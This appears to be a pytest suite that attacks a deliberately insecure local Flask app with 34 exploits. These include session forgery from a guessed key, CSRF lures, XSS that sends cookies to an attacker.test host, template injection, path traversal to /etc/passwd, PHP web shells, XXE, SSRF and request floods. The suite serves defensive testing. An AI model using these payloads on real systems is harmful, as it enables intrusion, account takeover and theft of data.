"""The attacks that the generated app withstands, on an app that defends nothing: all 34 succeed.

They need Flask and Playwright, which the template's own environment lacks: ``test_naive_run.py`` brings them.
"""

from __future__ import annotations

import hashlib
import html.parser
import http.client
import http.server
import io
import os
import re
import select
import shutil
import socket
import threading
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, suppress
from dataclasses import dataclass
from importlib.util import module_from_spec, spec_from_file_location
from pathlib import Path
from typing import Any
from urllib.parse import quote, unquote, urlencode

import pytest
from flask import Flask
from flask.sessions import SecureCookieSessionInterface
from flask.testing import FlaskClient
from itsdangerous import BadSignature, URLSafeTimedSerializer
from playwright.sync_api import Browser, Page, sync_playwright
from werkzeug.serving import make_server
from werkzeug.test import EnvironBuilder, TestResponse, run_wsgi_app

from tests.clean_copy import APP
from tests.naive.__main__ import BANNER, guarded_server
from tests.naive.app import create_app
from tests.test_mitigations import THREATS

NAIVE = Path(create_app.__code__.co_filename)
ALICE, MALLORY = "alice@example.com", "mallory@example.com"
PASSWORD = "correct horse battery staple 42"
# The first words of any list of keys that tutorials use.
WORDLIST = ("secret", "changeme", "supersecretkey", "you-will-never-guess", "dev")
WRONG = "The password is wrong."

Recorder = Callable[[str, object], None]
# The generated app's own payloads.
_spec = spec_from_file_location("payloads", Path(__file__).parent.parent / APP / "tests/payloads/__init__.py")
payloads = module_from_spec(_spec)
_spec.loader.exec_module(payloads)


@dataclass
class Naive:
    """The naive app and its data. Browsers of its own, each with its cookies: ``member(ALICE)`` is signed in."""

    app: Flask
    folder: Path

    def visitor(self, **cookies: str) -> FlaskClient:
        client = self.app.test_client()
        for name, value in cookies.items():
            client.set_cookie(name, value)
        return client

    def member(self, email: str = ALICE, client: FlaskClient | None = None) -> FlaskClient:
        client = client or self.visitor()
        client.post("/register", data={"email": email, "password": PASSWORD})
        assert log_in(client, email, PASSWORD).status_code == 302
        return client

    def mails(self) -> str:
        return (self.folder / "mails.txt").read_text()

    def size(self) -> int:
        return sum(path.stat().st_size for path in self.folder.rglob("*") if path.is_file())


def log_in(client: FlaskClient, email: str, password: str, **more: Any) -> TestResponse:
    return client.post("/login", data={"email": email, "password": password}, **more)


def cookie(client: FlaskClient, name: str) -> str:
    found = client.get_cookie(name)
    assert found
    return found.value


def whose(client: FlaskClient) -> str | None:
    """Whose account this browser is signed in to."""
    found = re.search(r"<h1>(\S+@\S+)</h1>", client.get("/account").text)
    return found and found[1]


def send(client: FlaskClient, *files: tuple[str, bytes]) -> TestResponse:
    return client.post("/uploads", data={"file": [(io.BytesIO(content), name) for name, content in files]})


class Site(http.server.ThreadingHTTPServer):
    """Another server on loopback: the attacker's site, or one that nobody outside may reach."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Handler)
        self.body, self.moved, self.delay = "", "", 0.0
        self.asked: list[str] = []
        self.url = f"http://attacker.test:{self.server_port}"
        self.inside = f"http://127.0.0.1:{self.server_port}"

    def page(self, body: str, host: str = "attacker.test") -> str:
        self.body = body
        return f"http://{host}:{self.server_port}/"


class Handler(http.server.BaseHTTPRequestHandler):
    server: Site

    def do_GET(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length", 0))).decode()
        self.server.asked.append(f"{self.path} {body}")
        time.sleep(self.server.delay)
        self.send_response(302 if self.path == "/moved" else 200)
        self.send_header("Location", self.server.moved)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(self.server.body.encode())

    do_POST = do_GET  # noqa: N815 - the base class's name

    def log_message(self, *_: object) -> None:
        """Quiet."""


@pytest.fixture
def naive(tmp_path: Path) -> Naive:
    return Naive(create_app(tmp_path / "naive"), tmp_path / "naive")


@pytest.fixture
def running() -> Iterator[ExitStack]:
    with ExitStack() as stack:
        yield stack


def run(server: Any, running: ExitStack) -> None:
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01})
    thread.start()
    running.callback(server.server_close)
    running.callback(thread.join)
    running.callback(server.shutdown)


@pytest.fixture
def attacker(running: ExitStack) -> Site:
    site = Site()
    run(site, running)
    return site


@pytest.fixture
def serve(naive: Naive, running: ExitStack) -> Callable[..., int]:
    """Serve the naive app, as the development server does, and give its port."""

    def start(*, threaded: bool = True) -> int:
        server = make_server("127.0.0.1", 0, naive.app, threaded=threaded)
        run(server, running)
        return server.server_port

    return start


@pytest.fixture
def url(serve: Callable[..., int]) -> str:
    return f"http://naive.test:{serve()}"


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    """Chromium, to which every name is loopback."""
    with sync_playwright() as playwright:
        launched = playwright.chromium.launch(
            executable_path=os.environ.get("CHROMIUM") or shutil.which("chromium"),
            args=["--no-sandbox", "--disable-gpu", "--host-resolver-rules=MAP * 127.0.0.1"],
        )
        yield launched
        launched.close()


@pytest.fixture
def tab(browser: Browser) -> Iterator[Page]:
    """A page of a fresh profile. A payload that runs in it calls ``hacked()``."""
    context = browser.new_context()
    context.set_default_timeout(10_000)
    context.add_init_script("window.hacked = () => { top.owned = true }")
    yield context.new_page()
    context.close()


@pytest.fixture
def signed_in(tab: Page, url: str, naive: Naive) -> Page:
    """Alice's browser."""
    naive.member(ALICE)
    tab.goto(f"{url}/login")
    fill_in(tab)
    tab.wait_for_url(f"{url}/account")
    return tab


def fill_in(tab: Page) -> None:
    tab.fill("[name=email]", ALICE)
    tab.fill("[name=password]", PASSWORD)
    tab.click("button")


def click(tab: Page) -> None:
    tab.eval_on_selector_all(".click", "found => found.forEach(element => element.click())")


def until(tab: Page, true: Callable[[], object]) -> None:
    """Wait until something has happened; that it does is what the attack is about."""
    patience = time.monotonic() + 10
    while not true():
        assert time.monotonic() < patience
        tab.wait_for_timeout(20)


def until_hacked(tab: Page) -> None:
    until(tab, lambda: tab.evaluate("window.owned"))


# 1 Secret key


def cracked_key(client: FlaskClient) -> str:
    """The key of the app, found offline with one cookie of one's own."""
    for word in WORDLIST:
        try:
            signer(word).loads(cookie(client, "session"))
        except BadSignature:
            continue
        return word
    raise AssertionError("not in the list")


def signer(key: str) -> URLSafeTimedSerializer:
    forger = Flask("forger")
    forger.secret_key = key
    made = SecureCookieSessionInterface().get_signing_serializer(forger)
    assert made
    return made


def test_1_T1_a_guessed_key_signs_a_session_of_anybody_in_every_such_app(naive: Naive, tmp_path: Path) -> None:
    naive.member(ALICE)
    forged = signer(cracked_key(naive.member(MALLORY))).dumps({"email": ALICE})
    assert whose(naive.visitor(session=forged)) == ALICE
    assert whose(Naive(create_app(tmp_path / "other"), tmp_path).visitor(session=forged)) == ALICE


def test_1_T2_a_token_is_computed_by_somebody_who_never_saw_it(naive: Naive) -> None:
    alice, key = naive.member(ALICE), cracked_key(naive.member(MALLORY))
    predicted = hashlib.md5(f"{ALICE}{key}".encode()).hexdigest()  # noqa: S324 - the app's way
    assert alice.post("/account", data={"password": "mine", "token": "x"}).status_code == 400
    assert alice.post("/account", data={"password": "mine", "token": predicted}).status_code == 302
    assert whose(logged_in(naive, ALICE, "mine")) == ALICE


def logged_in(naive: Naive, email: str, password: str) -> FlaskClient:
    client = naive.visitor()
    log_in(client, email, password)
    return client


def test_1_T3_a_changed_byte_makes_the_session_another_ones(naive: Naive) -> None:
    alice, mallory = naive.member(ALICE), naive.member(MALLORY)
    assert (cookie(alice, "visitor"), cookie(mallory, "visitor")) == ("1", "2")
    assert whose(naive.visitor(visitor="2")) == MALLORY
    assert whose(naive.visitor(visitor="1")) == ALICE


# 2 CSRF


def test_2_T1_another_sites_form_uploads_as_the_victim(signed_in: Page, url: str, attacker: Site, naive: Naive) -> None:
    lure = f"""<form id=f method=post enctype=multipart/form-data action="{url}/uploads"></form>
        <script>
          const bag = new DataTransfer(); bag.items.add(new File(["planted"], "planted.txt", {{type: "text/plain"}}));
          const input = Object.assign(document.createElement("input"), {{type: "file", name: "file"}});
          input.files = bag.files; f.append(input); f.submit();
        </script>"""
    signed_in.goto(attacker.page(lure))
    signed_in.wait_for_url(f"{url}/uploads")
    assert "planted.txt" in logged_in(naive, ALICE, PASSWORD).get("/uploads").text


def test_2_T2_posts_need_no_token_and_gets_act(naive: Naive) -> None:
    alice = naive.member(ALICE)
    answers = {
        rule.rule: alice.post(rule.rule, data={"email": MALLORY, "password": "x"}).status_code
        for rule in naive.app.url_map.iter_rules()
        if "POST" in rule.methods
    }
    assert answers == {"/register": 302, "/login": 302, "/reset": 200, "/uploads": 200, "/account": 400}  # see 1.T2
    assert (whose(alice), "To mallory" in naive.mails()) == (MALLORY, True)
    send(alice, ("notes.txt", b"mine"))
    assert "notes.txt" in alice.get("/uploads").text
    alice.get("/uploads/notes.txt/delete")
    assert "notes.txt" not in alice.get("/uploads").text
    alice.get("/logout")
    assert whose(alice) is None


# 3 Content Security Policy

MARKUP = {
    "inline script": "<script>hacked()</script>",
    "event handler": "<img src=x onerror=hacked()>",
    "javascript link": "<a class=click href='javascript:hacked()'>x</a>",
    "srcdoc": "<iframe srcdoc='<script>parent.hacked()</script>'></iframe>",
    "foreign script": "<script src='ATTACKER/x.js'></script>",
    "base": "<base href='ATTACKER'><script src=relative.js></script>",
}


def test_3_T1_injected_markup_and_a_dom_sink_run(tab: Page, url: str, attacker: Site) -> None:
    attacker.page("hacked()")
    for markup in MARKUP.values():
        tab.goto(f"{url}/hello?name={quote(markup.replace('ATTACKER', attacker.url))}")
        click(tab)
        until_hacked(tab)
    assert attacker.asked == ["/x.js ", "/relative.js "]
    tab.goto(f"{url}/#<img src=x onerror=hacked()>")
    until_hacked(tab)


LEAKS = {
    "img": "<img src='ATTACKER/img'>",
    "style": "<style>h1 { background: url(ATTACKER/style) }</style>",
    "fetch": "<script>fetch('ATTACKER/fetch', {method: 'POST', body: 'secret', mode: 'no-cors'})</script>",
    "form": "<form method=post action='ATTACKER/form'><input name=a value=secret><button class=click></button></form>",
}


def test_3_T2_injected_markup_sends_to_another_origin(tab: Page, url: str, attacker: Site) -> None:
    for kind, markup in LEAKS.items():
        tab.goto(f"{url}/hello?name={quote(markup.replace('ATTACKER', attacker.url))}")
        click(tab)
        until(tab, lambda kind=kind: any(line.startswith(f"/{kind} ") for line in attacker.asked))
    assert {"/fetch secret", "/form a=secret"} < set(attacker.asked)


def test_3_T3_another_site_frames_the_sign_in(tab: Page, url: str, attacker: Site) -> None:
    tab.goto(attacker.page(f"<iframe src='{url}/login'></iframe>"))
    assert "Sign in" in tab.frames[1].inner_text("h1")


# 4 Cookies


def test_4_T1_a_copied_cookie_outlives_everything(naive: Naive, monkeypatch: pytest.MonkeyPatch) -> None:
    alice = naive.member(ALICE)
    set_over_http = log_in(alice, ALICE, PASSWORD, base_url="http://localhost").headers.getlist("Set-Cookie")
    assert ["Secure" in line for line in set_over_http] == [False, False]
    thief = naive.visitor(session=cookie(alice, "session"))
    (token,) = re.findall(r'name="token" value="(\w+)"', alice.get("/account").text)
    alice.post("/account", data={"password": "new", "token": token})
    alice.get("/logout")
    assert (whose(alice), whose(thief)) == (None, ALICE)
    now = time.time
    monkeypatch.setattr(time, "time", lambda: now() + 5 * 365 * 86400)
    assert whose(thief) == ALICE


def test_4_T2_a_script_sends_the_cookies_away_and_they_work(
    signed_in: Page, url: str, attacker: Site, naive: Naive
) -> None:
    script = f"<script>new Image().src = '{attacker.url}/?' + document.cookie</script>"
    signed_in.goto(f"{url}/hello?name={quote(script)}")
    until(signed_in, lambda: attacker.asked)
    stolen = dict(re.findall(r"(\w+)=([^; ]+)", unquote(attacker.asked[0])))
    assert whose(naive.visitor(session=stolen["session"])) == ALICE


def test_4_T3_the_session_of_before_is_the_victims_after(naive: Naive) -> None:
    attacker = naive.visitor()
    attacker.get("/")
    assert whose(attacker) is None
    naive.member(ALICE, naive.visitor(visitor=cookie(attacker, "visitor")))  # on a computer that both use, say
    assert whose(attacker) == ALICE


def test_4_T4_another_sites_form_carries_the_session_cookie(signed_in: Page, url: str, attacker: Site) -> None:
    """Chromium allows it for two minutes after a cookie was set.

    The app sets it anew with every page, so a link to one of them buys the next two minutes.
    """
    form = f'<form id=f method=post action="{url}/uploads"></form><script>f.submit()</script>'
    with signed_in.expect_request(lambda request: request.method == "POST") as sent:
        signed_in.goto(attacker.page(form))
    assert "session=" in sent.value.all_headers()["cookie"]


# 5 Errors


def test_5_T1_an_exception_shows_code_paths_and_sql(naive: Naive) -> None:
    naive.member(ALICE)
    answers = {
        "FileNotFoundError": naive.visitor().get("/uploads/nothing"),
        "TemplateSyntaxError": naive.visitor().get("/hello?name={{"),
        "INSERT INTO users VALUES (?, ?)": naive.visitor().post("/register", data={"email": ALICE, "password": "x"}),
    }
    for told, answer in answers.items():
        assert (answer.status_code, told in answer.text) == (500, True)
        assert "Traceback" in answer.text
        assert str(NAIVE) in answer.text


def test_5_T2_software_and_accounts_are_told(naive: Naive, serve: Callable[..., int]) -> None:
    naive.member(ALICE)
    known, unknown = (log_in(naive.visitor(), email, "x").text for email in (ALICE, "nobody@example.com"))
    assert WRONG in known
    assert "There is no account" in unknown
    _, headers, body = ask(serve(), "/nothing")
    assert re.fullmatch(r"Werkzeug/[\d.]+ Python/[\d.]+", headers["Server"])
    assert b"manually please check your spelling" in body


def ask(
    port: int, path: str, method: str = "GET", body: bytes | None = None, headers: dict[str, str] | None = None
) -> tuple[int, http.client.HTTPMessage, bytes]:
    """One request over the wire, in plain HTTP."""
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    try:
        connection.request(method, path, body, headers or {})
        answer = connection.getresponse()
        return answer.status, answer.headers, answer.read()
    finally:
        connection.close()


MALFORMED = [
    "/uploads/%00",
    "/uploads/" + "a" * 300,
    "/uploads/.",
    "/hello?name={{",
    "/hello?name={%25",
    "/page/nothing",
    "/preview?url=nonsense",
    "/preview?url=http://[",
]


def test_5_T3_malformed_requests_are_the_servers_faults(naive: Naive) -> None:
    assert {path: naive.visitor().get(path).status_code for path in MALFORMED} == dict.fromkeys(MALFORMED, 500)
    assert send(naive.member(ALICE), ("a.svg", b"<svg>")).status_code == 500


# 6 Headers


def test_6_T1_a_click_on_a_neighbours_page_deletes_a_file(
    signed_in: Page, url: str, attacker: Site, naive: Naive
) -> None:
    """The neighbour's origin is another, its site is not: so the frame is signed in."""
    alice = logged_in(naive, ALICE, PASSWORD)
    send(alice, ("notes.txt", b"mine"))
    lure = f"<h1>You have won</h1><iframe src='{url}/uploads' style='opacity: 0' width=600 height=400></iframe>"
    signed_in.goto(attacker.page(lure, host="neighbour.naive.test"))
    place = signed_in.frames[1].get_by_text("Delete").bounding_box()  # a visit of one's own would tell it as well
    assert place
    signed_in.mouse.click(place["x"] + place["width"] / 2, place["y"] + place["height"] / 2)
    until(signed_in, lambda: "notes.txt" not in alice.get("/uploads").text)


def test_6_T2_a_text_is_a_page_and_a_script(tab: Page, url: str, naive: Naive) -> None:
    send(naive.member(), ("page.txt", b"<script>hacked()</script>"), ("script.txt", b"hacked()"))
    tab.goto(f"{url}/uploads/page.txt")
    until_hacked(tab)
    with naive.visitor().get("/static/uploads/script.txt") as answer:
        assert answer.mimetype == "text/plain"
    tab.goto(f"{url}/hello?name=<script src=/static/uploads/script.txt></script>")
    until_hacked(tab)


def test_6_T3_http_is_answered_and_a_spoofed_host_believed(naive: Naive, serve: Callable[..., int]) -> None:
    naive.member(ALICE).get("/logout")
    form = {"Content-Type": "application/x-www-form-urlencoded", "X-Forwarded-Host": "evil.example"}
    body = urlencode({"email": ALICE, "password": PASSWORD}).encode()
    port = serve()
    status, headers, _ = ask(port, "/login", "POST", body, form)  # a listener on the way reads the password
    session = next(line for line in headers.get_all("Set-Cookie", []) if line.startswith("session="))
    assert (status, headers["Location"], "Secure" in session) == (302, "/account", False)
    assert ALICE.encode() in ask(port, "/account", headers={"Cookie": session.partition(";")[0]})[2]
    assert ask(port, "/reset", "POST", body, form)[0] == 200
    assert f"To {ALICE}: http://evil.example/reset?" in naive.mails()
    assert "Strict-Transport-Security" not in naive.visitor().get("/", base_url="https://localhost").headers


REFLECTED = "\"'><script>alert(1)</script>"


def test_6_T4_markup_in_parameters_comes_back(naive: Naive) -> None:
    reflecting = set()
    query = dict.fromkeys(("name", "next", "url"), REFLECTED)
    for rule in naive.app.url_map.iter_rules():
        path = re.sub(r"<[^>]+>", quote("<script>alert(1)<"), rule.rule)
        for method in rule.methods & {"GET", "POST"}:
            form = {"email": REFLECTED + rule.rule, "password": "x"} if method == "POST" else None
            with naive.visitor().open(path, method=method, query_string=query, data=form) as answer:
                if answer.mimetype == "text/html" and "<script>alert(1)<" in answer.text:
                    reflecting.add((method, rule.rule))
    assert {("GET", "/hello"), ("GET", "/login"), ("POST", "/login"), ("POST", "/reset")} < reflecting
    assert ("GET", "/uploads/<path:name>") in reflecting  # in the text of the exception


# 7 Templates

EVALUATED = re.compile(r"9801547|root:x:0|(<|&lt;)(Config|Request|class|function|module|bound|Template)\b")


@pytest.mark.filterwarnings("ignore")  # payloads leave files open, and Python warns of their escapes
def test_7_T1_payloads_are_evaluated(naive: Naive, record_property: Recorder) -> None:
    corpus, visitor = payloads.lines("ssti.txt"), naive.visitor()
    answers = {payload: visitor.get("/hello", query_string={"name": payload}) for payload in corpus}
    evaluated = [answer for answer in answers.values() if answer.status_code == 200 and EVALUATED.search(answer.text)]
    record_property("naive app, template payloads evaluated", f"{len(evaluated)} of {len(corpus)}")
    assert len(evaluated) > 40  # the rest is for other engines and other contexts, or prints nothing to be seen by
    assert "Hello dev!" in answers["{{ config.SECRET_KEY }}"].text


class Judge(html.parser.HTMLParser):
    """Looks whether something of a payload has become an element, an attribute or a script of a page."""

    found = False

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        # A link may lead anywhere: that is another threat.
        self.found |= "hacked" in f"{tag} {[pair for pair in attributes if (tag, pair[0]) != ('a', 'href')]}"

    def handle_data(self, data: str) -> None:
        self.found |= self.lasttag == "script" and "hacked" in data


def became_markup(answer: TestResponse) -> bool:
    judge = Judge()
    judge.feed(answer.text)
    return judge.found


def test_7_T2_payloads_become_markup_and_run(
    naive: Naive, signed_in: Page, url: str, record_property: Recorder
) -> None:
    corpus, visitor = payloads.strings("xss.txt"), naive.visitor()
    assert not became_markup(log_in(visitor, "hacked()", "x", query_string={"next": "hacked()"}))
    markup = [
        payload
        for payload in corpus
        if became_markup(log_in(visitor, payload, "x"))
        or became_markup(visitor.get("/login", query_string={"next": payload}))
    ]
    record_property("naive app, XSS payloads that become markup", f"{len(markup)} of {len(corpus)}")
    assert len(markup) > 100  # the rest is for places that this app has not: comments, scripts, unquoted attributes

    send(logged_in(naive, ALICE, PASSWORD), ("<img src=x onerror=hacked()>.txt", b"x"))
    signed_in.goto(f"{url}/uploads")
    until_hacked(signed_in)


def test_7_T3_an_uploaded_template_runs_code(naive: Naive) -> None:
    code = b"{{ lipsum.__globals__.os.getpid() }}"
    assert send(naive.member(), ("../../pages/evil.html", code)).status_code == 200
    assert naive.visitor().get("/page/evil").text == str(os.getpid())


# 8 Rate limits


def test_8_T1_a_thousand_guesses_at_one_account_all_pass(naive: Naive) -> None:
    naive.member(ALICE)

    def guess(number: int) -> str:
        address = {"REMOTE_ADDR": f"10.0.{number // 256}.{number % 256}"} if number % 2 else {}
        return log_in(naive.visitor(), ALICE, f"guess {number}", environ_overrides=address).text

    with ThreadPoolExecutor(4) as pool:
        parallel = list(pool.map(guess, range(500)))
    serial = [guess(number) for number in range(500, 1000)]
    assert sum(WRONG in answer for answer in parallel + serial) == 1000
    assert log_in(naive.visitor(), ALICE, PASSWORD).status_code == 302  # the next, the right one, is let in at once


def test_8_T2_a_flood_from_one_client_keeps_another_waiting(
    attacker: Site, serve: Callable[..., int], record_property: Recorder
) -> None:
    """One request at a time: what Werkzeug's server and gunicorn do unless they are told otherwise."""
    port, flood = serve(threaded=False), []
    alone = seconds(lambda: ask(port, "/"))
    attacker.delay = 0.1
    with ExitStack() as stack:
        for _ in range(20):
            connection = stack.enter_context(socket.create_connection(("127.0.0.1", port), timeout=30))
            connection.sendall(f"GET /preview?url={attacker.inside} HTTP/1.1\r\nHost: naive.test\r\n\r\n".encode())
            flood.append(connection)
        waited = seconds(lambda: ask(port, "/"))
        assert [connection.recv(12) for connection in flood] == [b"HTTP/1.1 200"] * 20  # none was refused
    record_property("naive app, a page alone and behind a flood of 20", f"{alone:.2f} s, {waited:.2f} s")
    assert waited - alone > 1


def seconds(request: Callable[[], object]) -> float:
    began = time.monotonic()
    request()
    return time.monotonic() - began


def test_8_T3_a_thousand_accounts_with_one_guess_each_all_pass(naive: Naive) -> None:
    leaked = [(f"user{number}@example.com", f"leaked {number}") for number in range(1000)]
    visitor = naive.visitor()
    for email, password in leaked[::100]:  # who used that password here as well
        visitor.post("/register", data={"email": email, "password": password})
    answers = [log_in(visitor, email, password) for email, password in leaked]
    assert [pair for pair, answer in zip(leaked, answers, strict=True) if answer.status_code == 302] == leaked[::100]
    assert {answer.status_code for answer in answers} == {200, 302}


def test_8_T4_nothing_is_bounded(naive: Naive, serve: Callable[..., int]) -> None:
    before = naive.size()
    for _ in range(1000):
        last = naive.visitor().get("/")
    assert int(re.findall(r"visitor=(\d+)", last.headers["Set-Cookie"])[0]) == 1000  # rows, one a request
    assert naive.size() - before > 8000

    port = serve()
    body = b"password=x&email=" + b"a" * 20_000_000
    status, _, answer = ask(port, "/login", "POST", body, {"Content-Type": "application/x-www-form-urlencoded"})
    assert (status, len(answer) > 20_000_000) == (200, True)  # taken whole, and sent back

    threads = threading.active_count()
    with ExitStack() as stack:
        slow = [stack.enter_context(socket.create_connection(("127.0.0.1", port), timeout=30)) for _ in range(100)]
        for connection in slow:
            connection.sendall(b"POST /login HTTP/1.1\r\nHost: naive")
        time.sleep(1)
        assert threading.active_count() - threads > 90  # each has a thread, for as long as it likes
        assert select.select(slow, [], [], 0)[0] == []


# 9 Uploads


def test_9_T1_names_lead_outside(naive: Naive) -> None:
    mallory, stranger = naive.member(MALLORY), naive.visitor()
    send(mallory, ("../../written.txt", b"a"))
    assert (naive.folder / "written.txt").read_bytes() == b"a"
    assert stranger.get("/uploads/..%2f..%2fnaive.db").data.startswith(b"SQLite format 3\0")
    assert b"root:" in stranger.get(f"/uploads/{'..%2f' * 40}etc%2fpasswd").data
    stranger.get("/uploads/..%2f..%2fwritten.txt/delete")
    assert not (naive.folder / "written.txt").exists()


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><title>A</title><script>hacked()</script></svg>'
HOSTILE = {
    "shell.php": b"<?php system($_GET['c']); ?>",
    "shell.jpg.php": b"\xff\xd8\xff\xe0<?php system($_GET['c']); ?>",
    "program.exe": b"MZ\x90\0",
    "macro.docm": b"PK\3\4word/vbaProject.bin",
    "eicar.txt": rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
    "page.html": b"<script>hacked()</script>",
    "drawing.svg": SVG,
}


def test_9_T2_hostile_files_are_kept_and_run(naive: Naive, tab: Page, url: str) -> None:
    assert send(naive.member(), *HOSTILE.items()).status_code == 200
    for name, content in HOSTILE.items():
        with naive.visitor().get(f"/static/uploads/{name}") as answer:
            assert answer.data == content
    for name in ("page.html", "drawing.svg"):
        tab.goto(f"{url}/static/uploads/{name}")
        until_hacked(tab)


def test_9_T3_the_server_follows_a_reference_and_shows_what_it_got(naive: Naive, attacker: Site) -> None:
    attacker.body = "internal secret"
    drawing = f'<!DOCTYPE svg [<!ENTITY x SYSTEM "{attacker.inside}/x">]><svg><title>&x;</title></svg>'
    assert "internal secret" in send(naive.member(), ("a.svg", drawing.encode())).text
    assert attacker.asked == ["/x "]


def test_9_T4_number_and_size_are_not_bounded(naive: Naive, serve: Callable[..., int]) -> None:
    alice, before = naive.member(), naive.size()
    for hundred in range(10):
        send(alice, *((f"{hundred}-{number}.txt", b"a" * 1000) for number in range(100)))
    assert alice.get("/uploads").text.count("<li>") == 1000
    assert naive.size() - before > 1_000_000

    head = f"POST /uploads HTTP/1.1\r\nHost: naive.test\r\nCookie: session={cookie(alice, 'session')}\r\n"
    head += "Transfer-Encoding: chunked\r\nContent-Type: multipart/form-data; boundary=x\r\n\r\n"
    part = b'--x\r\nContent-Disposition: form-data; name="file"; filename="large.txt"\r\n\r\n'
    with socket.create_connection(("127.0.0.1", serve()), timeout=30) as connection:
        connection.sendall(head.encode())
        for chunk in (part, *[b"a" * 2**20] * 32, b"\r\n--x--\r\n"):  # it would go on for as long as we do
            connection.sendall(b"%x\r\n%s\r\n" % (len(chunk), chunk))
        connection.sendall(b"0\r\n\r\n")
        assert connection.recv(12) == b"HTTP/1.1 200"
    assert (naive.folder / "static/uploads/large.txt").stat().st_size == 32 * 2**20


# 10 URLs


def locations(naive: Naive, targets: list[str]) -> list[str]:
    """Where ``/redirect`` leads, read off the wire."""
    found = []
    for target in targets:
        query = "next=" + quote(target, safe="", errors="surrogatepass")
        environ = EnvironBuilder(path="/redirect", query_string=query, headers={"Cookie": "visitor=1"}).get_environ()
        with suppress(ValueError):  # what Werkzeug can't put into a header ends as a 500
            found.append(run_wsgi_app(naive.app, environ)[2].get("Location"))
    return list(filter(None, found))


def origins(tab: Page, addresses: list[str]) -> list[str]:
    """As Chromium reads them on a page of ours."""
    read = "list => list.map(address => URL.parse(address, 'http://localhost/redirect')?.origin ?? '')"
    return tab.evaluate(read, addresses)


def test_10_T1_the_redirects_leave_the_host(naive: Naive, tab: Page, record_property: Recorder) -> None:
    filled = [
        shape.replace("EVIL", evil).replace("OWN", "localhost").replace("ALLOWED", "docs.example.com")
        for shape in payloads.strings("open_redirects.txt")
        for evil in ("evil.example", "\uff45\uff56\uff49\uff4c\u3002example", "3405803842", "[2001:db8::66]")
    ]
    targets = sorted({*filled, *map(unquote, filled)})
    read = origins(tab, locations(naive, targets))
    left = [origin for origin in read if re.search(r"//(evil\.example|203\.0\.113\.66|\[2001:db8::66\])", origin)]
    record_property("naive app, redirects that leave for the attacker", f"{len(left)} of {len(targets)}")
    assert len(left) > 250  # the rest is for those who repair what they get, or filter it


def test_10_T2_a_url_in_a_parameter_runs(tab: Page, url: str) -> None:
    for target in ("javascript:hacked()", '"><img src=x onerror=hacked()>'):
        tab.goto(f"{url}/login?next={quote(target)}")
        tab.click("#cancel")
        until_hacked(tab)


def test_10_T3_the_server_fetches_what_is_inside(naive: Naive, attacker: Site, tmp_path: Path) -> None:
    attacker.body = "internal secret"
    attacker.moved = attacker.inside
    visitor, port = naive.visitor(), attacker.server_port
    for host in ("127.0.0.1", "localhost", "2130706433", "0x7f000001", "0177.0.0.1", "127.1"):
        assert visitor.get(f"/preview?url=http://{host}:{port}/").text == "internal secret", host
    assert visitor.get(f"/preview?url={attacker.inside}/moved").text == "internal secret"
    assert len(attacker.asked) == 8
    (tmp_path / "secret.txt").write_text("a file of the server")
    assert visitor.get(f"/preview?url={(tmp_path / 'secret.txt').as_uri()}").text == "a file of the server"


# Each looks like this app, or a friend's, to a person.
LOOK_ALIKES = [
    "http://localhost@evil.example/",
    "http://localhost:pass@evil.example/",
    "http://localhost.evil.example/",
    "http://localhost\u3002evil.example/",
    "http://d\u043ecs.example.com/",
]


def test_10_T4_the_sign_in_ends_on_a_look_alike(naive: Naive, tab: Page, url: str, attacker: Site) -> None:
    found = locations(naive, LOOK_ALIKES)
    assert len(found) == len(LOOK_ALIKES)
    assert all(re.search(r"evil\.example|xn--", origin) for origin in origins(tab, found))
    naive.member(ALICE)
    page = attacker.page("Your session has ended. Please give your password again.")
    tab.goto(f"{url}/login?next={page.replace('//', '//naive.test@')}")
    fill_in(tab)
    tab.get_by_text("Your session has ended").wait_for()
    assert tab.evaluate("location.hostname") == "attacker.test"


def test_each_of_the_34_threats_is_attacked_here_and_named_in_the_app() -> None:
    expected = {f"{number}.T{threat}" for number, count in THREATS.items() for threat in range(1, count + 1)}
    assert len(expected) == 34
    tests = [re.match(r"test_(\d+)_T(\d)_", name) for name in globals()]
    assert {f"{test[1]}.T{test[2]}" for test in tests if test} == expected
    assert set(re.findall(r"\b\d+\.T\d", NAIVE.read_text(encoding="utf-8"))) == expected


def test_served_beside_the_demo_it_has_a_banner_and_answers_no_other_site(tmp_path: Path) -> None:
    app = create_app(tmp_path)
    server = guarded_server(app, 0, "told-to-me")
    assert server.server_address[0] == "127.0.0.1"
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    here, hole = f"127.0.0.1:{server.port}", "/hello?name={{7*191}}"
    known = {"Cookie": "naive-key=told-to-me"}

    def ask(path: str, **headers: str) -> tuple[int, bytes]:
        connection = http.client.HTTPConnection("127.0.0.1", server.port)
        connection.request("GET", path, headers={name.replace("_", "-"): value for name, value in headers.items()})
        answer = connection.getresponse()
        status, body = answer.status, answer.read()
        connection.close()
        return status, body

    try:
        for path in ("/", hole, "/page/about", "/login", "/register", "/reset", "/no-such-page", "/hello?name={{"):
            assert ask(path, **known)[1].startswith(BANNER), path
        assert ask("/?key=told-to-me")[0] == 200
        assert b"1337" in ask(hole, **known, Origin=f"http://{here}", Sec_Fetch_Site="same-origin")[1]
        for told in (
            {"Host": f"attacker.test:{server.port}"},
            {"Sec_Fetch_Site": "cross-site"},
            {"Sec_Fetch_Site": "same-site"},
            {"Origin": "http://attacker.test"},
            {"Origin": "null"},
            {"Cookie": "naive-key=guessed"},
            {"Cookie": ""},  # another user of this machine, or a browser that does not send Sec-Fetch-Site
        ):
            status, body = ask(hole, **known | told)
            assert (status, b"1337" in body) == (403, False), told
    finally:
        server.shutdown()
        thread.join()
        server.server_close()
